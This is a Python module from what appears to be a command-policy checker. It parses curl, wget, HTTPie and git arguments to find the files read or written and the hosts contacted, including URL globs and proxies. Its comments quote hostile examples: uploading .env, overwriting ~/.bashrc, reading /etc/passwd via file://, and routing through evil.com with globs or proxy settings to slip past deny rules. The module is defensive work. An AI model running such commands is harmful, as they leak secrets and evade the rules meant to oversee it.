"""curl, wget and HTTPie: the files they send and the files they save.

`curl -d @.env https://x` uploads `.env`, and `curl -o ~/.bashrc URL` or
`wget -O ~/.bashrc URL` overwrites `~/.bashrc`: a deny on reading the one
or editing the other never saw them. The files their options name are read
and edit subjects, held to those tools' deny and ask rules only, as the
files a reader or writer names are (`programs.FILE_READERS`). What `-O`,
and wget by default, save is a file whose name the server picks, in the
output folder: `words.a_file_in` that folder.

Only the options that name files are looked for; a word equal to one of
them is read as it wherever it stands (a stricter reading, never a looser
one). curl's config file (`-K`) names options policyc cannot see: refused.
"""

from __future__ import annotations

from functools import partial

from .crypto import CRYPTO
from .programs import CURL_SHORT_VALUES
from .servers import SERVERS, served_files
from .storage import STORAGE
from .words import SplitError, a_file_in, cluster_value, operands_past

# curl 7.8x and 8: short options that take a value (the rest of the word, or
# the next one), and the long options that name a file, by what they do.
_CURL_LONG_VALUES = frozenset(
    """--data --data-ascii --data-binary --data-raw --data-urlencode --json --form
    --form-string --upload-file --config --output --dump-header --cookie-jar --cookie
    --trace --trace-ascii --stderr --libcurl --header --proxy-header --write-out
    --netrc-file --etag-compare --etag-save --cert --key --cacert --output-dir --hsts
    --alt-svc --user-agent --request --user --proxy --referer --max-time --range
    --connect-timeout --retry --url --preproxy --socks4 --socks4a --socks5
    --socks5-hostname --proxy1.0 --connect-to --resolve --doh-url --variable""".split()
)
# The options naming a host curl connects to besides its URLs' (a proxy sees
# each request, `--connect-to` sends it elsewhere): fetched from too.
_CURL_PROXIES = frozenset(
    "-x --proxy --preproxy --socks4 --socks4a --socks5 --socks5-hostname --proxy1.0".split()
)
_CURL_SENDS_AT = frozenset({"-d", "--data", "--data-ascii", "--data-binary", "--json"})
_CURL_SENDS_AT |= {"-H", "--header", "--proxy-header", "-w", "--write-out"}
_CURL_READS = frozenset({"-T", "--upload-file", "--netrc-file", "--etag-compare"})
_CURL_READS |= {"-E", "--cert", "--key", "--cacert"}
_CURL_WRITES = frozenset({"-o", "--output", "-D", "--dump-header", "-c", "--cookie-jar"})
_CURL_WRITES |= {"--trace", "--trace-ascii", "--stderr", "--libcurl", "--etag-save"}
_CURL_BOTH = frozenset({"--hsts", "--alt-svc"})  # read, then written back


def _file_url_path(url: str) -> str:
    """The local file a `file://[HOST]/PATH` URL names, decoded as curl does
    (`file:///etc/%70asswd` is /etc/passwd)."""
    from urllib.parse import unquote  # here: most commands hold no such URL

    _, slash, path = url[7:].partition("/")
    return unquote(slash + path) or "/"


def _url_names(url: str) -> list[str]:
    """The names `curl -O URL` and `wget URL` save a URL's file as: the last
    part of its path, with its query and without (wget keeps it, curl not),
    as written and decoded (`%2eenv` is `.env` to wget); `index.html` for
    none. The server may pick another name too (a redirect, `-J`): the
    callers add a file in the folder whose name is not known."""
    rest = url.partition("://")[2] if "://" in url else url
    path = rest.partition("/")[2].partition("#")[0]
    names = []
    for part in (path, path.partition("?")[0]):
        name = part.rpartition("/")[2] or "index.html"
        names.append(name)
        if "%" in name:
            from urllib.parse import unquote  # here: most URLs hold no escape

            names.append(unquote(name))
    return [name for name in dict.fromkeys(names) if name not in (".", "..")]


def _saved_as(folder: str, urls: list[str], unknown: str) -> list[str]:
    """What `curl -O` or `wget` saves the URLs as in `folder`: past a
    variable (`"$URL"`, `https://x/$F`) any name, which the caller reads as
    any file."""
    prefix = "" if folder in ("", ".") else folder.rstrip("/") + "/"
    return [
        prefix + name for url in urls for name in ([unknown] if unknown in url else _url_names(url))
    ]


def _curl_scan(words: list[str]) -> tuple[list, list[str], bool, list[str]]:
    """curl's options with their values, the words that are no option's
    (its URLs), whether it saves by the URL's name, and the netrc it reads."""
    reads: list[str] = []
    options: list[tuple[str, str]] = []
    remote_name = False
    urls: list[str] = []  # the words that are no option's
    i, n = 1, len(words)
    while i < n:
        word = words[i]
        i += 1
        if word[:2] == "--":
            if word in ("--remote-name", "--remote-name-all"):
                remote_name = True
            elif word == "--globoff":
                options.append((word, ""))
            elif word[:9] == "--expand-":  # (curl 8.3: `{{NAME}}` in its value)
                raise SplitError(
                    f"curl {word} (a value curl expands) cannot be evaluated statically"
                )
            elif word == "--netrc":
                reads.append("~/.netrc")
            elif word in _CURL_LONG_VALUES and i < n:
                options.append((word, words[i]))
                i += 1
        elif word[:1] == "-" and len(word) > 1:
            for k in range(1, len(word)):
                letter = word[k]
                if letter in CURL_SHORT_VALUES:
                    value, i = cluster_value(word, k, words, i)
                    options.append(("-" + letter, value))
                    break
                remote_name = remote_name or letter == "O"
                if letter == "g":
                    options.append(("--globoff", ""))
                elif letter == "n":
                    reads.append("~/.netrc")
        else:
            urls.append(word)
    return options, urls, remote_name, reads


def _curl_files(words: list[str], unknown: str) -> tuple[list[str], list[str]]:
    options, urls, remote_name, reads = _curl_scan(words)
    writes: list[str] = []
    reads += [_file_url_path(url) for url in urls if url[:7].lower() == "file://"]
    output_dir = next((v for o, v in reversed(options) if o == "--output-dir"), "")
    for option, value in options:
        if not value or value in ("-", "@-"):
            continue
        if option in ("-K", "--config"):
            raise SplitError(
                f"curl {option} {value} (a config file) cannot be evaluated statically"
            )
        if option == "--url" and value[:7].lower() == "file://":
            reads.append(_file_url_path(value))
        elif option in _CURL_SENDS_AT and value[:1] == "@":
            reads.append(value[1:])
        elif option in _CURL_SENDS_AT and value.startswith(unknown):
            reads.append(value)  # `-d "$X"`: `@FILE` too, for all that is known
        elif option == "--data-urlencode":
            name, at, path = value.partition("@")
            if at and "=" not in name and path != "-" or value.startswith(unknown):
                reads.append(path or value)
        elif option in ("-F", "--form"):
            content = value.partition("=")[2] or value
            if content[:1] in ("@", "<") and content[1:2] != "-":
                reads.append(content[1:].partition(";")[0])
            elif content.startswith(unknown):
                reads.append(content)
        elif option in ("-b", "--cookie") and "=" not in value:
            reads.append(value)  # a cookie file
        elif option == "--variable" and "@" in value.partition("=")[0] + "@":
            name, at, path = value.partition("@")  # `--variable NAME@FILE` reads FILE
            if at and "=" not in name and path != "-":
                reads.append(path)
        elif option in _CURL_READS:
            reads.append(value)
        elif option in _CURL_WRITES:
            joined = output_dir and value[:1] not in ("/", "~") and option in ("-o", "--output")
            writes.append(output_dir.rstrip("/") + "/" + value if joined else value)
        elif option in _CURL_BOTH:
            reads.append(value)
            writes.append(value)
    if remote_name:  # named as the URL's file (`curl -O https://x/.env`), or by the server
        urls += [value for option, value in options if option == "--url"]
        writes += _saved_as(output_dir, urls, unknown)
        writes.append(a_file_in(output_dir or "."))
    return reads, writes


# GNU wget 1.2x: short options that take a value (`-nv` is -n's `v`), the
# long ones that name a file, and the wgetrc commands `-e` may give that do.
_WGET_SHORT_VALUES = frozenset("oaiOPeBtTwQUlARDXIn")
_WGET_FILES = {
    "-o": "w",
    "--output-file": "w",
    "-a": "w",
    "--append-output": "w",
    "-i": "r",
    "--input-file": "r",
    "-O": "o",
    "--output-document": "o",
    "-P": "d",
    "--directory-prefix": "d",
    "--post-file": "r",
    "--body-file": "r",
    "--load-cookies": "r",
    "--save-cookies": "w",
    "--warc-file": "w",
    "--rejected-log": "w",
    "--certificate": "r",
    "--private-key": "r",
    "--ca-certificate": "r",
    "--hsts-file": "r",
    "--config": "r",
}
_WGETRC_FILES = {
    "outputdocument": "-O",
    "dirprefix": "-P",
    "logfile": "-o",
    "savecookies": "--save-cookies",
    "loadcookies": "--load-cookies",
    "warcfile": "--warc-file",
    "postfile": "--post-file",
    "bodyfile": "--body-file",
    "input": "-i",
}
_WGET_SAVES_NOTHING = frozenset({"--spider", "-h", "--help", "-V", "--version"})


def _wget_scan(words: list[str]) -> tuple[list, list[str], bool]:
    """wget's options that name files with their values, the words that are
    no option's (its URLs), and whether it saves what it fetches."""
    options: list[tuple[str, str]] = []
    urls: list[str] = []  # the words that are no option's
    saves = True
    i, n = 1, len(words)
    while i < n:
        word = words[i]
        i += 1
        if word[:2] == "--":
            name, eq, value = word.partition("=")
            saves = saves and name not in _WGET_SAVES_NOTHING
            if name in _WGET_FILES or name == "--execute":
                if not eq:
                    value = words[i] if i < n else ""
                    i += 1
                options.append((name, value))
        elif word[:1] == "-" and len(word) > 1:
            saves = saves and word not in _WGET_SAVES_NOTHING
            for k in range(1, len(word)):
                if word[k] in _WGET_SHORT_VALUES:
                    value, i = cluster_value(word, k, words, i)
                    options.append(("-" + word[k], value))
                    break
        else:
            urls.append(word)
    return options, urls, saves


def _wget_files(words: list[str], unknown: str) -> tuple[list[str], list[str]]:
    options, urls, saves = _wget_scan(words)
    reads: list[str] = []
    writes: list[str] = []
    folder, document = ".", None
    for option, value in options:
        if option in ("-e", "--execute"):  # a wgetrc command: `output_document = x`
            command, eq, setting = value.partition("=")
            option = _WGETRC_FILES.get(
                command.strip().replace("_", "").replace("-", "").lower(), ""
            )
            value = setting.strip() if eq else ""
        kind = _WGET_FILES.get(option)
        if kind is None or not value:
            continue
        if kind == "r":
            reads.append(value)
        elif kind == "w":
            writes.append(value)
        elif kind == "d":
            folder = value
        elif value != "-":  # -O: one file for all, `-` the output
            document = value
        else:
            document = ""
    if document:
        writes.append(document)
    elif document is None and saves:  # named as the URL's file (`.env`), or by the server
        writes += _saved_as(folder, urls, unknown)
        writes.append(a_file_in(folder))
    return reads, writes


# HTTPie 3 (http, https) and xh 0.2x: options that take a value, those
# whose value is a file read or written, and the separators of a request
# item that send a file (`field@FILE` uploads it, `field=@FILE` and
# `field:=@FILE` send its text, `@FILE` is the body).
_HTTPIE_VALUES = frozenset(
    """-a --auth -A --auth-type --session --session-read-only --proxy --timeout -p --print
    --pretty -s --style --max-redirects --format-options --response-charset --response-mime
    --ssl --ciphers --default-scheme --boundary --chunked-size -o --output --cert --cert-key
    --verify --raw""".split()
)
_HTTPIE_READS = frozenset({"--cert", "--cert-key", "--verify"})
_HTTP_METHODS = frozenset("GET POST PUT PATCH DELETE HEAD OPTIONS".split())


def _httpie_scan(words: list[str]) -> tuple[list, list[str], bool]:
    """HTTPie's options that take a value with it, its operands past the
    method (the URL, then the request items), and whether it downloads."""
    options: list[tuple[str, str]] = []
    operands: list[str] = []
    download = False
    i = 1
    while i < len(words):
        word = words[i]
        option, eq, value = word.partition("=")
        if word[:1] == "-" and len(word) > 1:
            if option in _HTTPIE_VALUES:
                if not eq:
                    value = words[i + 1] if i + 1 < len(words) else ""
                    i += 1
                options.append((option, value))
            download = download or option in ("-d", "--download")
        else:
            operands.append(word)
        i += 1
    if operands and operands[0] in _HTTP_METHODS:
        operands = operands[1:]
    return options, operands, download


def _httpie_files(words: list[str], unknown: str) -> tuple[list[str], list[str]]:
    """The files `http POST URL field@FILE` sends and `-o FILE` saves
    (`-d`: one the server names, in `.`)."""
    options, operands, download = _httpie_scan(words)
    writes = [value for option, value in options if option in ("-o", "--output")]
    reads = [
        value
        for option, value in options
        if option in _HTTPIE_READS and value.lower() not in ("yes", "no", "true", "false")
    ]
    for item in operands[1:]:  # past the URL
        at = next((k for k, c in enumerate(item) if c in ":=@"), -1)
        if at < 0:
            continue
        for separator in ("@", "=@", ":=@"):
            if item.startswith(separator, at):
                reads.append(item[at + len(separator) :])
                break
    if download and not writes:
        writes.append(a_file_in("."))
    return [path for path in reads if path], [path for path in writes if path]


_HTTPIES = frozenset({"http", "https", "xh", "xhs"})
FETCHERS = frozenset({"curl", "wget"} | _HTTPIES)  # (shell.py names them too)
TRANSFERS = {"curl": _curl_files, "wget": _wget_files, **STORAGE, **CRYPTO}
TRANSFERS.update(dict.fromkeys(_HTTPIES, _httpie_files))
TRANSFERS.update(
    {name: partial(served_files, name) for name in SERVERS}  # what a web server hands out
)


def fetched_urls(program: str, words: list[str], unknown: str) -> list[str]:
    """The URLs curl, wget, HTTPie and xh fetch, as their words name them;
    one with no scheme is read as the program reads it (`curl evil.com`,
    `http evil.com/x`: http; `https evil.com`: https; `http :8000`: the
    local host). Those a file lists (wget's `-i`, curl's `--url @FILE`)
    are `unknown`."""
    if program == "curl":
        options, urls = _curl_scan(words)[:2]
        urls += [
            unknown if value[:1] == "@" else value for option, value in options if option == "--url"
        ]
        if not any(option == "--globoff" for option, _ in options):
            urls = [each for url in urls for each in curl_globbed(url, unknown)]
        urls += _curl_hosts(options, unknown)
    elif program == "wget":
        options, urls = _wget_scan(words)[:2]
        for option, value in options:
            command = value.partition("=")[0].strip().replace("_", "").replace("-", "").lower()
            if (
                option in ("-i", "--input-file")
                or option in ("-e", "--execute")
                and (command == "input")
            ):
                urls.append(unknown)
            elif option in ("-e", "--execute") and command in _WGET_PROXIES:
                urls.append(value.partition("=")[2].strip())  # `-e https_proxy=evil.com`
    else:
        urls = _httpie_scan(words)[1][:1]
    scheme = "https://" if program in ("https", "xhs") else "http://"
    out = []
    for url in urls:
        if url[:1] == ":" and program in _HTTPIES:  # `http :8000/x`
            url = "localhost" + url
        out.append(url if "://" in url else scheme + url)
    return out


_WGET_PROXIES = frozenset({"httpproxy", "httpsproxy", "ftpproxy"})  # (wgetrc's, folded)


def _curl_hosts(options: list, unknown: str) -> list[str]:
    """The proxies' URLs and the hosts `--connect-to` and `--resolve` send
    requests to, and `--doh-url`'s server."""
    out = []
    for option, value in options:
        if option in _CURL_PROXIES or option == "--doh-url":
            out.append(value)
        elif option == "--connect-to":  # `HOST1:PORT1:HOST2:PORT2`: HOST2 ("" is HOST1)
            parts = value.split(":")
            if "[" in value or len(parts) != 4:
                out.append(unknown)  # (an IPv6 address: not read here)
            elif parts[2]:
                out.append(parts[2])
        elif option == "--resolve":  # `[+]HOST:PORT:ADDRESS[,ADDRESS]…`
            addresses = "".join(value.split(":", 2)[2:])
            out += [address for address in addresses.split(",") if address]
    return out


# curl's URL globbing (unless -g): `{a,b}` is each item of a set, `[1-3]`,
# `[a-c]` and `[01-10:2]` each of a range, a `\` keeps the next character of
# a set (or a `{}[]` outside one), and a bracketed IPv6 address is itself.
# `curl 'https://{evil.com,x}/'` fetched from evil.com past a deny on it.
# Read here as curl 7.88 reads them (checked against it); a glob curl
# refuses is a URL whose host is not known (it fetches nothing, but a
# reading that refused what curl takes would let it fetch).
_GLOB_LIMIT = 64  # URLs made of one at most; past it, its host's glob only
_GLOB_CHARACTERS = frozenset("{}[]\\")


def curl_globbed(url: str, unknown: str) -> list[str]:
    """The URLs curl makes of `url`."""
    if _GLOB_CHARACTERS.isdisjoint(url):
        return [url]
    pieces = _glob_pieces(url)
    if pieces is None:
        return [unknown]
    if _count(pieces) <= _GLOB_LIMIT:
        return _joined(pieces)
    # Too many to list (`https://x.com/img[001-500].png`): the host's part
    # expanded, what follows it as written (a domain rule reads the host).
    head, tail = _host_pieces(pieces)
    if _count(head) > _GLOB_LIMIT:
        return [unknown]
    rest = "".join(written for written, _, _ in tail)
    return [url + rest for url in _joined(head)]


# A piece of a globbed URL: (its text as written, what it may be, how many:
# the items of a range too long to list are None).
_Piece = tuple[str, list[str] | None, int]


def _count(pieces: list[_Piece]) -> int:
    count = 1
    for _, _, many in pieces:
        count *= many
    return count


def _joined(pieces: list[_Piece]) -> list[str]:
    out = [""]
    for _, items, _ in pieces:
        out = [left + right for left in out for right in items or ()]
    return out


def _host_pieces(pieces: list[_Piece]) -> tuple[list[_Piece], list[_Piece]]:
    """The pieces up to the end of the URL's host, and the rest: the host
    ends at the first `/`, `?` or `#` of literal text past the `://`."""
    seen = ""  # (a glob stands as "x": its scheme or host)
    for at, (_, items, many) in enumerate(pieces):
        if many > 1 or items is None:
            seen += "x"
            continue
        text = items[0]
        for k, c in enumerate(text):
            if c in "/?#" and not (c == "/" and seen[-1:] in (":", "/") and "://" not in seen):
                head = [*pieces[:at], (text[:k], [text[:k]], 1)]
                return head, [(text[k:], [text[k:]], 1), *pieces[at + 1 :]]
            seen += c
    return pieces, []


def _glob_pieces(url: str) -> list[_Piece] | None:
    """The URL as pieces: literal text (one item), sets and ranges (each
    item). None: curl refuses it (unmatched, nested, a bad range)."""
    pieces: list[_Piece] = []
    literal = ""
    i, n = 0, len(url)
    while i < n:
        c = url[i]
        if c == "\\" and i + 1 < n and url[i + 1] in "{}[]":
            literal += url[i + 1]
            i += 2
            continue
        if c in "}]":
            return None  # (unmatched)
        if c not in "{[":
            literal += c
            i += 1
            continue
        start = i
        if c == "[":
            end = url.find("]", i)
            if end < 0:
                return None
            inside = url[i + 1 : end]
            i = end + 1
            if not inside:
                literal += "[]"  # (curl's reading)
                continue
            if ":" in inside and "-" not in inside:
                if not _is_ipv6(inside):
                    return None
                literal += url[start:i]  # `http://[::1]/`: an address
                continue
            piece = _glob_range(inside, url[start:i])
        else:
            piece, i = _glob_set(url, i + 1)
        if piece is None:
            return None
        if literal:
            pieces.append((literal, [literal], 1))
            literal = ""
        pieces.append(piece)
    if literal:
        pieces.append((literal, [literal], 1))
    return pieces


def _glob_set(url: str, i: int) -> tuple[_Piece | None, int]:
    """`{a,b,c}` from just past its `{`, and where reading goes on."""
    start, items, item = i - 1, [], ""
    while i < len(url):
        c = url[i]
        if c == "\\" and i + 1 < len(url):
            item += url[i + 1]
            i += 2
            continue
        if c in "{[]":
            return None, i  # (nested, or a bracket in a set)
        if c == ",":
            items.append(item)
            item = ""
        elif c == "}":
            if not items and not item:
                return None, i  # (`{}`)
            items.append(item)
            return (url[start : i + 1], items, len(items)), i + 1
        else:
            item += c
        i += 1
    return None, i


def _glob_range(inside: str, written: str) -> _Piece | None:
    """`[a-c]`, `[1-10]`, `[001-100:5]`."""
    if len(inside) > 40:
        return None  # (past an unsigned long: curl refuses it)
    bounds, colon, step_text = inside.partition(":")
    step = 1
    if colon:
        digits = step_text.removeprefix("+")
        if not (digits.isascii() and digits.isdigit()) or int(digits) == 0:
            return None
        step = int(digits)
    low, dash, high = bounds.partition("-")
    if len(low) == 1 and len(high) == 1 and low.isascii() and high.isascii():
        if low.isalpha() and high.isalpha():
            if low.islower() != high.islower():
                return None
            first, last = ord(low), ord(high)
            if first > last or step > max(last - first, 1):
                return None
            return (
                written,
                [chr(k) for k in range(first, last + 1, step)],
                (last - first) // step + 1,
            )
    if not (dash and low.isascii() and low.isdigit() and high.isascii() and high.isdigit()):
        return None
    first, last = int(low), int(high)
    if first > last or step > max(last - first, 1):
        return None
    count = (last - first) // step + 1
    if count > _GLOB_LIMIT:
        return written, None, count  # (counted, not listed: see `curl_globbed`)
    width = len(low) if low[0] == "0" else 0
    return written, [str(k).zfill(width) for k in range(first, last + 1, step)], count


def _is_ipv6(text: str) -> bool:
    from ipaddress import IPv6Address  # here: most URLs hold no bracket

    try:
        IPv6Address(text.partition("%")[0])
    except ValueError:
        return False
    return True


# git's commands that reach a remote named by its URL (`git submodule add
# URL`), and `git remote add NAME URL` (a push by that name reaches it).
GIT_REMOTES = frozenset(
    {"clone", "fetch", "pull", "push", "ls-remote", "archive", "submodule", "remote"}
)


# git settings whose value is where requests go: a remote's URL, a proxy,
# and the base a URL rewrite sends to (`url.BASE.insteadOf`, its key's middle).
_GIT_URL_KEYS = frozenset({"url", "pushurl", "proxy"})
_GIT_REWRITE_KEYS = frozenset({"insteadof", "pushinsteadof"})
_GIT_CONFIG_VALUES = frozenset({"-f", "--file", "--blob", "--type", "--default", "--comment"})


def git_setting_urls(words: list[str], at: int) -> list[str]:
    """The URLs git's settings send requests to: `-c KEY=VALUE` before its
    command (`git -c http.proxy=evil.com:3128 push`) and `git config KEY
    VALUE` (`git config remote.origin.url URL`: a later push reaches it)."""
    pairs = [
        tuple(words[i + 1].partition("=")[::2])
        for i in range(1, min(at, len(words) - 1))
        if words[i] == "-c"
    ]
    if at < len(words) and words[at] == "config":
        operands = operands_past(words[at + 1 :], _GIT_CONFIG_VALUES)
        if len(operands) >= 2:
            pairs.append((operands[0], operands[1]))
    out = []
    for key, value in pairs:
        key = key.lower()
        last = key.rpartition(".")[2]
        if last in _GIT_REWRITE_KEYS and key.startswith("url."):
            value = key[4 : -len(last) - 1]
        elif last not in _GIT_URL_KEYS or not value:
            continue
        if "://" in value or last == "proxy":
            out.append(value if "://" in value else "http://" + value)
        else:
            out += git_remote_urls(["git", "x", value], 1)  # (scp's `user@host:path`)
    return out


def git_remote_urls(words: list[str], at: int) -> list[str]:
    """The hosts' URLs a git command (`words[at]`) fetches from or pushes
    to, as git reads them: `https://host/x` and `ssh://host/x` as written,
    `user@host:path` (scp's form) as ssh's, `--remote=URL` (archive's)
    too. A remote's name (`origin`) and a local path name no host, nor here
    does `host:path` with no user, which a refspec (`HEAD:main`) is written as."""
    out = []
    for word in words[at + 1 :]:
        if word[:2] == "--":
            word = word.partition("=")[2]
        elif word[:1] == "-":
            continue
        if "://" in word:
            out.append(word)
            continue
        head, colon, _ = word.partition(":")
        if colon and "@" in head and "/" not in head and "{" not in head:
            out.append("ssh://" + head)
    return out


def transfer_files(program: str, words: list[str], unknown: str) -> tuple[list[str], list[str]]:
    """The files curl, wget and their kin (cloud storage CLIs, key tools,
    web servers) read and write, as their words name them. A word with a
    variable is its text up to the variable, then `unknown`: a path that
    holds `unknown` may be any file (the caller reads it so)."""
    return TRANSFERS[program](words, unknown)
